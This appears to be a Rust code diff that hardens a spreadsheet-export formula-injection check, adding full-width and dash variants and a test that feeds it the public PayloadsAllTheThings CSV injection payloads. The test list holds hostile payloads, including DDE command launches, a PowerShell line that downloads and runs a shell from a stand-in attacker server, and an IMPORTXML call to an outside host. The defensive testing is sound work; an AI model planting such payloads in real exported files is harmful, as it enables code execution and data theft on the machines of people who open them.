@@ -188,12 +188,17 @@ pub fn write(report: &Report<'_>, path: &Path) -> Result<Format, ExportError> {
 }
 
 /// Whether a spreadsheet would read `text` as a formula (or a command): it starts with `=`,
-/// `+`, `@`, a tab or a carriage return, or with `-` not followed by a number.
+/// `+`, `@` (or their full-width forms), a tab or a carriage return, or with a minus or dash
+/// not followed by a number.
 pub fn looks_like_formula(text: &str) -> bool {
     let mut chars = text.chars();
     match chars.next() {
-        Some('=' | '+' | '@' | '\t' | '\r') => true,
-        Some('-') => {
+        // The full-width forms too: some spreadsheets and input methods read them as the ASCII
+        // ones.
+        Some('=' | '+' | '@' | '\t' | '\r' | '＝' | '＋' | '＠') => true,
+        // Dashes a word processor puts in place of a hyphen-minus (PayloadsAllTheThings lists
+        // the en dash as a formula start): a formula unless a number follows.
+        Some('-' | '–' | '−' | '－') => {
             let rest = chars.as_str();
             rest.parse::<f64>().map_or(true, |n| !n.is_finite())
         }
@@ -448,6 +453,32 @@ mod tests {
         for text in ["", "North", "-5", "-3.25", "5-3", "a=b", "1e3", "-1e3"] {
             assert!(!looks_like_formula(text), "{text:?}");
         }
+    }
+
+    /// The payloads of PayloadsAllTheThings' "CSV Injection" page, each neutralised.
+    #[test]
+    fn the_public_csv_injection_payloads_are_all_neutralised() {
+        for payload in [
+            "@SUM(1+1)*cmd|' /C calc'!A0",
+            "=2+5+cmd|' /C calc'!A0",
+            "=cmd|' /C calc'!'A1'",
+            "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
+            "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
+            "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
+            "=         cmd|'/c calc.exe'!A",
+            "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+            "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
+            "=IMPORTXML(\"http://burp.collaborator.net/csv\", \"//a/@href\")",
+            "–cmd|' /C calc'!A0",
+            "＝1+1",
+        ] {
+            assert!(looks_like_formula(payload), "{payload:?}");
+            assert!(safe_text(payload).starts_with('\''), "{payload:?}");
+        }
+        assert!(
+            !looks_like_formula("–5"),
+            "a dash before a number is a negative number"
+        );
     }
 
     #[test]
